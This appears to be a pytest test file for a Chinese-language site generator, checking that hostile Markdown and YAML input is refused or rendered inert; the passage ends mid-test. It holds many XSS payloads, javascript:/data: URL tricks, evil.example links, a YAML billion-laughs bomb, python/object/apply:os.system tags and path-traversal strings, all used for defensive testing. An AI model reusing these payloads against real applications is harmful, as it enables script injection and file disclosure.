"""Hostile input (DESIGN §6): every attack either refused with path:line:col and Chinese, or inert.

Four kinds of test, all through the real parts:

- case.md Markdown rendered by the real `SafeMarkdown` (as the branch page uses it): the
  fragment is parsed back and must hold no executable element, attribute or URL, while the
  text the writer typed is still there as text;
- profile.yml / case.md / folders that must be refused: scratch projects in tmp_path with a
  copy of the real taxonomy, loaded with `load_project`; the exact file, line, column and
  code are asserted, plus a key phrase of the Chinese message;
- hostile but schema-valid strings in every profile field: two scratch branches built once
  with a real `mkdocs build` (module fixture); the branch pages, <title>, <meta> and the
  listing pages must show the strings as text and contain nothing executable;
- known gaps, tracked as strict xfails so a fix is noticed.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from conftest import ROOT, BuiltSite, build_site
from showcase.content.load import Project, load_project
from showcase.content.model import Profile
from showcase.problems import Severity
from showcase.render.markdown import ALLOWED_TAGS, SafeMarkdown

SLUG = "ceshi-shequ"
PROFILE_PATH = f"branches/{SLUG}/profile.yml"
CASE_PATH = f"branches/{SLUG}/case.md"

# Lines: 2 name, 3 category, 5 brand, 6 brand.name, 7 summary, 8 themes, 11 value, 12 qualifier,
# 13 unit, 15 photos[0].file, 16 caption, 17 credit, 20 sources[0].url, 21 updated.
PROFILE = """\
slug: {slug}
name: 测试社区党委
category: 社区
region: 呼和浩特市/回民区
brand:
  name: 测试品牌
summary: 这是一个用于测试的党组织简介。
themes: [基层治理]
figures:
  - label: 党员
    value: 1400
    qualifier: 余
    unit: 名
photos:
  - file: photos/a.jpg
    caption: 测试图片说明
    credit: 示意图
sources:
  - title: 呼和浩特日报
    url: https://example.org/a
updated: 2024-10-25
"""
CASE = (
    "## 主要举措\n\n"
    + "社区党总支牵头组建联合大党委，把党员力量下沉到网格，开展志愿服务和邻里互助。" * 6
    + "\n\n## 取得成效\n\n"
    + "居民诉求在网格里发现、在网格里解决，群众满意度持续提升。" * 6
    + "\n"
)
CJK = re.compile(r"[\u4e00-\u9fff]")
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


def profile_with(old: str, new: str, slug: str = SLUG) -> str:
    text = PROFILE.format(slug=slug)
    assert text.count(old) == 1, old
    return text.replace(old, new)


def jpeg(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (800, 600), (180, 30, 30)).save(path, "JPEG")
    return path


def scratch_root(tmp_path: Path) -> Path:
    (tmp_path / "branches").mkdir()
    shutil.copy(ROOT / "branches" / "taxonomy.yml", tmp_path / "branches" / "taxonomy.yml")
    return tmp_path


def add_branch(
    root: Path,
    folder: str = SLUG,
    profile: str | bytes | None = None,
    *,
    case: str | bytes | None = CASE,
    photo: bool = True,
) -> Path:
    d = root / "branches" / folder
    (d / "photos").mkdir(parents=True)
    text = profile if profile is not None else PROFILE.format(slug=folder)
    (d / "profile.yml").write_bytes(text.encode() if isinstance(text, str) else text)
    if case is not None:
        (d / "case.md").write_bytes(case.encode() if isinstance(case, str) else case)
    if photo:
        jpeg(d / "photos" / "a.jpg")
    return d


def errors(project: Project) -> list[tuple[str, int, int, str]]:
    return [(p.path, p.line, p.col, p.code) for p in project.problems if p.severity is Severity.ERROR]


def first_error_message(project: Project) -> str:
    return next(p.message for p in project.problems if p.severity is Severity.ERROR)


# =============================================================================================
# 1. Markdown in case.md: rendered inert by the real SafeMarkdown
# =============================================================================================


class _Fragment(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _bad_url(value: str | None) -> bool:
    """A URL a browser would run or render inline (whitespace and control characters ignored)."""
    if value is None:
        return False
    squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
    return squeezed.startswith(BAD_SCHEMES)


def assert_inert_fragment(markup: str) -> str:
    """No executable element, attribute or URL in a rendered case fragment; returns its visible text."""
    parser = _Fragment()
    parser.feed(markup)
    parser.close()
    lowered = markup.lower()
    for needle in ("<script", "<img", "<iframe", "<style", "<svg", "<form", "<object", "<embed", "<math"):
        assert needle not in lowered, (needle, markup)
    assert parser.comments == [] and "<!--" not in markup, markup
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, (tag, markup)
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        assert "style" not in attrs and "class" not in attrs, (tag, attrs)
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            assert not _bad_url(attrs.get(name)), (tag, attrs)
        if tag == "a" and attrs.get("href") is not None:
            href = str(attrs["href"])
            scheme = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", href)
            assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto"}, href
    return "".join(parser.chunks)


def anchors(markup: str) -> list[dict[str, str | None]]:
    parser = _Fragment()
    parser.feed(markup)
    return [attrs for tag, attrs in parser.elements if tag == "a"]


# (case.md source, text that must still be visible as text, or None when nothing need be)
MARKDOWN_CASES = [
    # raw HTML: shown as text, never as elements
    pytest.param("<script>alert(1)</script>", "<script>alert(1)</script>", id="script"),
    pytest.param(
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        id="script-upper",
    ),
    pytest.param('<b onclick="alert(1)">粗体</b>', '<b onclick="alert(1)">粗体</b>', id="event-handler"),
    pytest.param("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<svg onload=alert(1)>", "<svg onload=alert(1)>", id="svg-onload"),
    pytest.param(
        "<svg><script>alert(1)</script></svg>", "<svg><script>alert(1)</script></svg>", id="svg-script"
    ),
    pytest.param(
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
        id="iframe",
    ),
    pytest.param("<style>body{display:none}</style>", "<style>body{display:none}</style>", id="style"),
    pytest.param(
        '<form action="https://evil.example/"><input name=p></form>',
        '<form action="https://evil.example/"><input name=p></form>',
        id="form",
    ),
    pytest.param(
        '<a href="javascript:alert(1)">点我</a>', '<a href="javascript:alert(1)">点我</a>', id="raw-a-js"
    ),
    pytest.param('<a href="&#x6A;avascript:alert(1)">点我</a>', "点我", id="raw-a-entity-js"),
    pytest.param(
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math><mi xlink:href=", id="mathml-xlink"
    ),
    pytest.param('<object data="data:text/html,<script>alert(1)</script>"></object>', "<object", id="object"),
    pytest.param('<embed src="javascript:alert(1)">', "<embed", id="embed"),
    pytest.param('<base href="https://evil.example/">', '<base href="https://evil.example/">', id="base"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "<meta http-equiv=",
        id="meta-refresh",
    ),
    pytest.param(
        "<details open ontoggle=alert(1)>x</details>", "<details open ontoggle=alert(1)>", id="ontoggle"
    ),
    pytest.param(
        "社区 <img src=x onerror=alert(1)> 党总支",
        "社区 <img src=x onerror=alert(1)> 党总支",
        id="inline-img",
    ),
    pytest.param(
        "| 项目 |\n|---|\n| <script>alert(1)</script> |", "<script>alert(1)</script>", id="in-table"
    ),
    pytest.param("\x00<script>alert(1)</script>", "<script>alert(1)</script>", id="nul-prefix"),
    # entity tricks: entities stay entities, shown as the characters they name
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>", id="entity-lt"),
    pytest.param(
        "&#60;script&#62;alert(1)&#60;/script&#62;", "<script>alert(1)</script>", id="entity-numeric"
    ),
    pytest.param("&amp;lt;script&amp;gt;", "&lt;script&gt;", id="entity-double"),
    # Markdown links with dangerous schemes: the link loses its href, the words stay
    pytest.param("[点我](javascript:alert(1))", "点我", id="link-js"),
    pytest.param("[点我](JaVaScRiPt:alert(1))", "点我", id="link-js-mixed-case"),
    pytest.param("[点我](java&#x09;script:alert(1))", "点我", id="link-js-tab-entity"),
    pytest.param("[点我](&#106;avascript:alert(1))", "点我", id="link-js-decimal-entity"),
    pytest.param("[点我](javascript&colon;alert(1))", "点我", id="link-js-colon-entity"),
    pytest.param("[点我]( javascript:alert(1))", "点我", id="link-js-leading-space"),
    pytest.param("[点我](<javascript:alert(1)>)", "点我", id="link-js-angle"),
    pytest.param("[点我](\x01javascript:alert(1))", "点我", id="link-js-control-char"),
    pytest.param(
        "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "点我", id="link-data"
    ),
    pytest.param("[点我](vbscript:msgbox(1))", "点我", id="link-vbscript"),
    pytest.param("[点我](file:///etc/passwd)", "点我", id="link-file"),
    pytest.param("[点我][r]\n\n[r]: javascript:alert(1)", "点我", id="reference-js"),
    pytest.param('[点我][r]\n\n[r]: <JavaScript:alert(1)> "标题"', "点我", id="reference-js-angle-title"),
    pytest.param("<javascript:alert(1)>", "<javascript:alert(1)>", id="autolink-js"),
    pytest.param("<JAVASCRIPT:alert(1)>", "<JAVASCRIPT:alert(1)>", id="autolink-js-upper"),
    pytest.param('<http://ok.example/" onmouseover="alert(1)>', "onmouseover", id="autolink-quote-break"),
    pytest.param(
        '[点我](https://ok.example/ "t\\" onmouseover=\\"alert(1)")', "点我", id="title-quote-break"
    ),
    # images are dropped whatever their source
    pytest.param("前文\n\n![图](http://evil.example/x.png)", "前文", id="image"),
    pytest.param("前文\n\n![图][r]\n\n[r]: http://evil.example/x.png", "前文", id="image-reference"),
    pytest.param("[![图](http://evil.example/x.png)](https://ok.example/)", None, id="image-in-link"),
    pytest.param("![图](javascript:alert(1))", None, id="image-js"),
    # HTML comments hiding script
    pytest.param("<!-- <script>alert(1)</script> -->\n\n正文", "正文", id="comment-script"),
    pytest.param("<!--\n<script>alert(1)</script>\n-->\n\n正文", "正文", id="comment-multiline"),
    # attr_list and md_in_html syntax is not active: left as text
    pytest.param("# 标题 {onclick=alert(1)}", "{onclick=alert(1)}", id="attr-list-heading"),
    pytest.param('[点我](/){: onclick="alert(1)"}', '{: onclick="alert(1)"}', id="attr-list-link"),
    pytest.param('段落\n{: onclick="alert(1)" style="color:red"}', "{: onclick=", id="attr-list-block"),
    pytest.param("## 标题 {#evil .cls onclick=x}", "{#evil .cls onclick=x}", id="attr-list-id-class"),
    pytest.param(
        '<div markdown="1">**粗** <script>alert(1)</script></div>', '<div markdown="1">', id="md-in-html"
    ),
    # nothing reads files or evaluates templates
    pytest.param('--8<-- "/etc/passwd"', "/etc/passwd", id="snippets"),
    pytest.param("{{ 7*7 }} {% include 'mkdocs.yml' %}", "{{ 7*7 }} {% include 'mkdocs.yml' %}", id="jinja"),
]


@pytest.mark.parametrize(("source", "visible"), MARKDOWN_CASES)
def test_markdown_is_inert(source: str, visible: str | None) -> None:
    html = SafeMarkdown(shift_headings=1).render(source + "\n").html
    text = assert_inert_fragment(html)
    if visible is not None:
        assert visible in text, (visible, text)
    assert "evil.example/x.png" not in html and "root:" not in html
    for a in anchors(html):  # a surviving link points where it said, with nothing smuggled in
        assert set(a) <= {"href", "title", "rel"}, a


def test_markdown_heading_with_escaped_html_keeps_toc_names_escaped() -> None:
    rendered = SafeMarkdown(shift_headings=1).render(
        "## &lt;img src=x onerror=alert(1)&gt;\n\n## <svg onload=alert(2)>\n\n## 标题 {onclick=alert(3)}\n"
    )
    assert_inert_fragment(rendered.html)
    names = [t["name"] for t in rendered.toc]
    # Material prints toc names unescaped into the sidebar: they must never hold a raw "<".
    assert all("<" not in n for n in names), names
    assert [t["id"] for t in rendered.toc] == [
        "img-srcx-onerroralert1",
        "svg-onloadalert2",
        "标题-onclickalert3",
    ]


# =============================================================================================
# 2. Profiles, case files and folders that must be refused (real loader, scratch project)
# =============================================================================================

ALIAS_BOMB = (
    'lol: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    "lol2: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    "lol3: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
    "lol4: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
)
BLOCK_NESTING = "".join("  " * i + f"k{i}:\n" for i in range(17)) + "  " * 17 + "v\n"

# (old text, new text, expected first error: (line, col, code, key phrase))
REFUSED_PROFILE = [
    # YAML anchors, aliases, tags
    pytest.param("", ALIAS_BOMB, (22, 6, "YAML_ANCHOR", "不支持 YAML 锚点 &a"), id="billion-laughs"),
    pytest.param("name: 测试社区党委", "name: *x", (2, 7, "YAML_ALIAS", "不支持 YAML 别名 *x"), id="alias"),
    pytest.param(
        "brand:\n", "brand: &b\n", (5, 8, "YAML_ANCHOR", "不支持 YAML 锚点 &b"), id="anchor-on-mapping"
    ),
    pytest.param(
        "brand:\n  name: 测试品牌",
        "brand:\n  <<: *base\n  name: 测试品牌",
        (6, 7, "YAML_ALIAS", "*base"),
        id="merge-key",
    ),
    pytest.param(
        "summary: 这是一个用于测试的党组织简介。",
        'summary: !!python/object/apply:os.system ["touch /tmp/pwned"]',
        (7, 10, "YAML_TAG", "!!python/object/apply:os.system"),
        id="tag-python-apply",
    ),
    pytest.param(
        "summary: 这是一个用于测试的党组织简介。",
        "summary: !!python/name:os.system",
        (7, 10, "YAML_TAG", "!!python/name:os.system"),
        id="tag-python-name",
    ),
    pytest.param("value: 1400", "value: !!int 1400", (11, 12, "YAML_TAG", "!!int"), id="tag-int"),
    pytest.param(
        "name: 测试社区党委", "name: !evil 测试社区党委", (2, 7, "YAML_TAG", "!evil"), id="tag-local"
    ),
    pytest.param("brand:\n", "brand: !!map\n", (5, 8, "YAML_TAG", "!!map"), id="tag-map"),
    # duplicate keys, several documents, complex keys
    pytest.param(
        "",
        "slug: other\n",
        (22, 1, "YAML_DUPLICATE_KEY", "键“slug”重复出现（第一次在第 1 行）"),
        id="duplicate-key",
    ),
    pytest.param(
        "  name: 测试品牌",
        "  name: 测试品牌\n  name: 另一个",
        (7, 3, "YAML_DUPLICATE_KEY", "第一次在第 6 行"),
        id="duplicate-key-nested",
    ),
    pytest.param(
        "brand:\n  name: 测试品牌",
        "brand: {name: 甲, name: 乙}",
        (5, 18, "YAML_DUPLICATE_KEY", "键“name”重复出现"),
        id="duplicate-key-flow",
    ),
    pytest.param(
        "", "---\nslug: x\n", (22, 1, "YAML_MULTIDOC", "一个文件只能有一份文档"), id="second-document"
    ),
    pytest.param("", "? [a, b]\n: c\n", (22, 3, "YAML_KEY", "键必须是简单的文字"), id="complex-key"),
    # whitespace, nesting, characters
    pytest.param(
        "brand:\n  name: 测试品牌",
        "brand:\n\tname: 测试品牌",
        (6, 1, "YAML_TAB", "制表符（Tab）"),
        id="tab-indent",
    ),
    pytest.param(
        "", "x: " + "[" * 16 + "]" * 16 + "\n", (22, 19, "YAML_DEPTH", "超过 16 层"), id="deep-flow"
    ),
    pytest.param("", BLOCK_NESTING, (38, 33, "YAML_DEPTH", "超过 16 层"), id="deep-block"),
    pytest.param(
        "caption: 测试图片说明",
        "caption: 测试\x0b图片说明",
        (16, 16, "YAML_CHAR", "不可见的控制字符"),
        id="ctrl-vt",
    ),
    pytest.param(
        "caption: 测试图片说明",
        "caption: 测试\x1b[31m图片说明",
        (16, 16, "YAML_CHAR", "控制字符"),
        id="ctrl-esc",
    ),
    pytest.param(
        "caption: 测试图片说明", "caption: 测试\x7f图片说明", (16, 16, "YAML_CHAR", "控制字符"), id="ctrl-del"
    ),
    pytest.param(
        "caption: 测试图片说明", "caption: 测试\x00图片说明", (16, 16, "ENCODING", "空字符"), id="nul-byte"
    ),
    # the Norway problem: scalars are text, the schema decides
    pytest.param(
        "qualifier: 余",
        "qualifier: NO",
        (12, 16, "CHOICE", "只能是 余、多、近、约、超 之一"),
        id="qualifier-NO",
    ),
    pytest.param("value: 1400", "value: yes", (11, 12, "NUMBER", "数值“yes”不是数字"), id="value-yes"),
    pytest.param("updated: 2024-10-25", "updated: on", (21, 10, "DATE", "日期“on”格式不对"), id="updated-on"),
    pytest.param(
        "themes: [基层治理]", "themes: [on]", (8, 10, "UNKNOWN_THEME", "主题“on”不在"), id="theme-on"
    ),
    # impossible dates
    pytest.param(
        "updated: 2024-10-25", "updated: 2024-02-30", (21, 10, "DATE", "“2024-02-30”不存在"), id="date-0230"
    ),
    pytest.param(
        "updated: 2024-10-25",
        "updated: 2023-02-29",
        (21, 10, "DATE", "“2023-02-29”不存在"),
        id="date-2023-0229",
    ),
    pytest.param(
        "updated: 2024-10-25", "updated: 2024-13-01", (21, 10, "DATE", "不存在"), id="date-month-13"
    ),
    pytest.param(
        "updated: 2024-10-25", "updated: 2024年2月30日", (21, 10, "DATE", "不存在"), id="date-chinese-0230"
    ),
    pytest.param(
        "updated: 2024-10-25", "updated: 20241025", (21, 10, "DATE", "格式不对"), id="date-no-dashes"
    ),
    # paths out of the branch folder
    pytest.param(
        "file: photos/a.jpg",
        "file: ../../etc/passwd",
        (15, 11, "BAD_PATH", "必须是本文件夹内的相对路径"),
        id="path-dotdot",
    ),
    pytest.param(
        "file: photos/a.jpg",
        "file: /etc/passwd",
        (15, 11, "BAD_PATH", "必须是本文件夹内的相对路径"),
        id="path-absolute",
    ),
    pytest.param(
        "file: photos/a.jpg",
        "file: photos/../../x.jpg",
        (15, 11, "BAD_PATH", "相对路径"),
        id="path-inner-dotdot",
    ),
    pytest.param(
        "file: photos/a.jpg", "file: 'C:\\x.jpg'", (15, 11, "BAD_PATH", "“C:\\x.jpg”"), id="path-drive"
    ),
    pytest.param(
        "file: photos/a.jpg",
        "file: 'photos\\..\\..\\x.jpg'",
        (15, 11, "BAD_PATH", "相对路径"),
        id="path-backslash",
    ),
    pytest.param(
        "file: photos/a.jpg",
        "file: '\\\\server\\share\\x.jpg'",
        (15, 11, "BAD_PATH", "相对路径"),
        id="path-unc",
    ),
    pytest.param(
        "file: photos/a.jpg", "file: file:///etc/passwd", (15, 11, "BAD_PATH", "相对路径"), id="path-file-url"
    ),
    pytest.param(
        "file: photos/a.jpg",
        "file: ~/a.jpg",
        (15, 11, "PHOTO_MISSING", "找不到文件“~/a.jpg”"),
        id="path-tilde",
    ),
    pytest.param(
        "  name: 测试品牌",
        "  name: 测试品牌\n  logo: ../../../etc/passwd",
        (7, 9, "BAD_PATH", "相对路径"),
        id="logo-dotdot",
    ),
    # lengths
    pytest.param(
        "name: 测试社区党委",
        "name: " + "长" * 61,
        (2, 7, "TOO_LONG", "最多 60 个字，现在 61 个字"),
        id="long-name",
    ),
    pytest.param(
        "  name: 测试品牌", "  name: " + "长" * 31, (6, 9, "TOO_LONG", "最多 30 个字"), id="long-brand"
    ),
    pytest.param(
        "summary: 这是一个用于测试的党组织简介。",
        "summary: " + "长" * 301,
        (7, 10, "TOO_LONG", "最多 300 个字"),
        id="long-summary",
    ),
    pytest.param("unit: 名", "unit: 人次人次人次人次人", (13, 11, "TOO_LONG", "最多 8 个字"), id="long-unit"),
    pytest.param(
        "url: https://example.org/a",
        "url: https://example.org/" + "a" * 300,
        (20, 10, "TOO_LONG", "最多 300 个字"),
        id="long-url",
    ),
    pytest.param(
        "themes: [基层治理]",
        "themes: [" + ", ".join(["基层治理"] * 9) + "]",
        (8, 9, "TOO_LONG", "最多 8 项"),
        id="too-many-themes",
    ),
    # unknown keys, with a suggestion
    pytest.param(
        "summary:", "sumary: x\nsummary:", (7, 1, "UNKNOWN_KEY", "是否想写“summary”"), id="unknown-key-typo"
    ),
    pytest.param("", "nmae: 甲\n", (22, 1, "UNKNOWN_KEY", "是否想写“name”"), id="unknown-key-nmae"),
    pytest.param(
        "  name: 测试品牌",
        "  name: 测试品牌\n  slogen: 口号",
        (7, 3, "UNKNOWN_KEY", "是否想写“slogan”"),
        id="unknown-key-nested",
    ),
    pytest.param(
        "    credit: 示意图",
        "    credit: 示意图\n    captoin: x",
        (18, 5, "UNKNOWN_KEY", "“photos[0].captoin”"),
        id="unknown-key-in-list",
    ),
    pytest.param(
        "", "onclick: alert(1)\n", (22, 1, "UNKNOWN_KEY", "可用的键：slug、name"), id="unknown-key-far"
    ),
    # numbers as people write them
    pytest.param(
        "value: 1400", "value: 1,400", (11, 12, "NUMBER", "不要加千位分隔符：请写成 1400"), id="number-comma"
    ),
    pytest.param("value: 1400", "value: 1400余", (11, 12, "NUMBER", "qualifier: 余"), id="number-qualifier"),
    pytest.param(
        "value: 1400", "value: 1400名", (11, 12, "NUMBER", "单位请写到 unit 字段"), id="number-unit"
    ),
    pytest.param("value: 1400", "value: 一千四百", (11, 12, "NUMBER", "不是数字"), id="number-chinese"),
    pytest.param("value: 1400", "value: 1e3", (11, 12, "NUMBER", "不是数字"), id="number-exponent"),
    pytest.param("value: 1400", "value: 0x10", (11, 12, "NUMBER", "不是数字"), id="number-hex"),
    pytest.param("value: 1400", "value: .nan", (11, 12, "NUMBER", "不是数字"), id="number-nan"),
    # slugs and URLs
    pytest.param(
        "slug: ceshi-shequ", "slug: ../evil", (1, 7, "FORMAT", "“../evil”不合规"), id="slug-traversal"
    ),
    pytest.param("slug: ceshi-shequ", "slug: Ceshi-Shequ", (1, 7, "FORMAT", "不合规"), id="slug-upper"),
    pytest.param(
        "url: https://example.org/a",
        "url: javascript:alert(1)",
        (20, 10, "FORMAT", "不是允许的链接：只能以 http:// 或 https:// 开头"),
        id="url-javascript",
    ),
    pytest.param(
        "url: https://example.org/a",
        "url: JavaScript:alert(1)",
        (20, 10, "FORMAT", "不是允许的链接"),
        id="url-js-case",
    ),
    pytest.param(
        "url: https://example.org/a",
        'url: "  javascript:alert(1)"',
        (20, 10, "FORMAT", "不是允许的链接"),
        id="url-js-space",
    ),
    pytest.param(
        "url: https://example.org/a",
        "url: 'data:text/html,<script>alert(1)</script>'",
        (20, 10, "FORMAT", "不是允许的链接"),
        id="url-data",
    ),
    pytest.param(
        "url: https://example.org/a",
        "url: vbscript:msgbox(1)",
        (20, 10, "FORMAT", "不是允许的链接"),
        id="url-vbscript",
    ),
    pytest.param(
        "url: https://example.org/a",
        "url: //evil.example/a",
        (20, 10, "FORMAT", "不是允许的链接"),
        id="url-scheme-relative",
    ),
    # empty and wrong-shaped values
    pytest.param("name: 测试社区党委", 'name: "   "', (2, 7, "EMPTY", "不能为空"), id="name-blank"),
    pytest.param(
        "name: 测试社区党委", "name:", (2, 6, "TYPE", "应为一段文字，现在是空值"), id="name-missing-value"
    ),
    pytest.param(
        "brand:\n  name: 测试品牌",
        "brand: <svg onload=alert(1)>",
        (5, 8, "TYPE", "应为一组“键: 值”"),
        id="brand-string",
    ),
]


@pytest.mark.parametrize(("old", "new", "expected"), REFUSED_PROFILE)
def test_hostile_profile_refused(
    tmp_path: Path, old: str, new: str, expected: tuple[int, int, str, str]
) -> None:
    root = scratch_root(tmp_path)
    text = PROFILE.format(slug=SLUG) + new if old == "" else profile_with(old, new)
    add_branch(root, profile=text)
    project = load_project(root)
    line, col, code, phrase = expected
    assert errors(project)[:1] == [(PROFILE_PATH, line, col, code)], [p.format() for p in project.problems]
    message = first_error_message(project)
    assert phrase in message and CJK.search(message), message
    if code.startswith("PHOTO_"):  # a bad photo leaves out the photo, not the page
        assert [b.sources for b in project.branches] == [{}]
    else:
        assert project.branches == []


def _gbk_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile=PROFILE.format(slug=SLUG).encode("gbk"))
    return [(PROFILE_PATH, 2, 7, "ENCODING", "不是 UTF-8 编码（可能是 GBK/GB2312）")]


def _utf16_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile=PROFILE.format(slug=SLUG).encode("utf-16"))
    return [(PROFILE_PATH, 1, 1, "ENCODING", "不是 UTF-8 编码")]


def _gbk_case(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, case="## Intro\n\nText.\n社区党总支牵头组建联合大党委。\n".encode("gbk"))
    return [(CASE_PATH, 4, 1, "ENCODING", "不是 UTF-8 编码（可能是 GBK/GB2312）")]


def _empty_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile=b"")
    return [(PROFILE_PATH, 1, 1, "YAML_EMPTY", "文件是空的")]


def _comments_only(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile="# 档案\n# slug: ceshi-shequ\n\n   # 还没写\n")
    return [(PROFILE_PATH, 1, 1, "YAML_EMPTY", "文件是空的")]


def _list_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile="- slug: ceshi-shequ\n- <script>alert(1)</script>\n")
    return [(PROFILE_PATH, 1, 1, "TYPE", "档案应为一组“键: 值”")]


def _huge_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, profile=PROFILE.format(slug=SLUG) + "# " + "x" * (256 * 1024) + "\n")
    return [(PROFILE_PATH, 1, 1, "FILE_TOO_LARGE", "超过上限 256 KB")]


def _huge_case(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, case="## 主要举措\n\n" + "很长。" * 70_000)
    return [(CASE_PATH, 1, 1, "FILE_TOO_LARGE", "case.md 超过 200 KB")]


def _bom_profile_positions(root: Path) -> list[tuple[str, int, int, str, str]]:
    # The BOM is stripped before parsing: it shifts no column on line 1.
    add_branch(root, profile=b"\xef\xbb\xbf" + PROFILE.format(slug="other-slug").encode())
    return [(PROFILE_PATH, 1, 7, "SLUG_MISMATCH", "slug“other-slug”必须与文件夹名“ceshi-shequ”相同")]


def _folder_upper(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, "Ceshi-Shequ", PROFILE.format(slug=SLUG))
    return [
        ("branches/Ceshi-Shequ", 1, 1, "FOLDER_NAME", "文件夹名“Ceshi-Shequ”不合规"),
        ("branches/Ceshi-Shequ/profile.yml", 1, 7, "SLUG_MISMATCH", "必须与文件夹名"),
    ]


def _folder_chinese(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, "测试社区", PROFILE.format(slug=SLUG))
    return [
        ("branches/测试社区", 1, 1, "FOLDER_NAME", "只能用小写字母、数字和连字符"),
        ("branches/测试社区/profile.yml", 1, 7, "SLUG_MISMATCH", "必须与文件夹名"),
    ]


def _symlinked_photo(root: Path) -> list[tuple[str, int, int, str, str]]:
    secret = jpeg(root / "outside" / "secret.jpg")
    folder = add_branch(root, photo=False)
    os.symlink(secret, folder / "photos" / "a.jpg")
    return [(PROFILE_PATH, 15, 11, "BAD_PATH", "是符号链接，不允许使用")]


def _symlinked_photos_dir(root: Path) -> list[tuple[str, int, int, str, str]]:
    jpeg(root / "outside" / "a.jpg")
    folder = add_branch(root, photo=False)
    (folder / "photos").rmdir()
    os.symlink(root / "outside", folder / "photos")
    return [(PROFILE_PATH, 15, 11, "BAD_PATH", "是符号链接")]


def _symlinked_case(root: Path) -> list[tuple[str, int, int, str, str]]:
    (root / "outside").mkdir()
    (root / "outside" / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n", "utf-8")
    folder = add_branch(root, case=None)
    os.symlink(root / "outside" / "passwd", folder / "case.md")
    return [(CASE_PATH, 1, 1, "SYMLINK", "不允许使用符号链接")]


def _symlinked_profile(root: Path) -> list[tuple[str, int, int, str, str]]:
    (root / "outside").mkdir()
    (root / "outside" / "p.yml").write_text(PROFILE.format(slug=SLUG), "utf-8")
    folder = add_branch(root)
    (folder / "profile.yml").unlink()
    os.symlink(root / "outside" / "p.yml", folder / "profile.yml")
    return [(PROFILE_PATH, 1, 1, "SYMLINK", "不允许使用符号链接")]


def _symlinked_branch_folder(root: Path) -> list[tuple[str, int, int, str, str]]:
    real = add_branch(root, "real-shequ")
    os.symlink(real, root / "branches" / SLUG)
    return [(f"branches/{SLUG}", 1, 1, "SYMLINK", "不允许使用符号链接：请放入真实的文件夹")]


def _case_tab_javascript_link(root: Path) -> list[tuple[str, int, int, str, str]]:
    add_branch(root, case=CASE + "\n[点我](java&#x09;script:alert(1))\n")
    return [(CASE_PATH, 9, 6, "UNSAFE_LINK", "不是网页地址")]


def _case_script_links(root: Path) -> list[tuple[str, int, int, str, str]]:
    # Rendered inert anyway (see the SafeMarkdown cases); the loader refuses them so a reviewer sees them.
    add_branch(
        root,
        case=CASE
        + "\n[a](JavaScript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)\n\n[c]: vbscript:msgbox\n",
    )
    return [
        (CASE_PATH, 9, 5, "UNSAFE_LINK", "不是网页地址"),
        (CASE_PATH, 9, 30, "UNSAFE_LINK", "不是网页地址"),
        (CASE_PATH, 11, 6, "UNSAFE_LINK", "不是网页地址"),
    ]


REFUSED_FILES: dict[str, Callable[[Path], list[tuple[str, int, int, str, str]]]] = {
    "gbk-profile": _gbk_profile,
    "utf16-profile": _utf16_profile,
    "gbk-case": _gbk_case,
    "empty-profile": _empty_profile,
    "comments-only-profile": _comments_only,
    "list-profile": _list_profile,
    "huge-profile": _huge_profile,
    "huge-case": _huge_case,
    "bom-profile-keeps-columns": _bom_profile_positions,
    "folder-upper-case": _folder_upper,
    "folder-chinese": _folder_chinese,
    "symlinked-photo": _symlinked_photo,
    "case-script-links": _case_script_links,
    "symlinked-photos-folder": _symlinked_photos_dir,
    "symlinked-case": _symlinked_case,
    "symlinked-profile": _symlinked_profile,
    "symlinked-branch-folder": _symlinked_branch_folder,
    "case-tab-javascript-link": _case_tab_javascript_link,
}


@pytest.mark.parametrize("kind", list(REFUSED_FILES))
def test_hostile_file_refused(tmp_path: Path, kind: str) -> None:
    root = scratch_root(tmp_path)
    expected = REFUSED_FILES[kind](root)
    project = load_project(root)
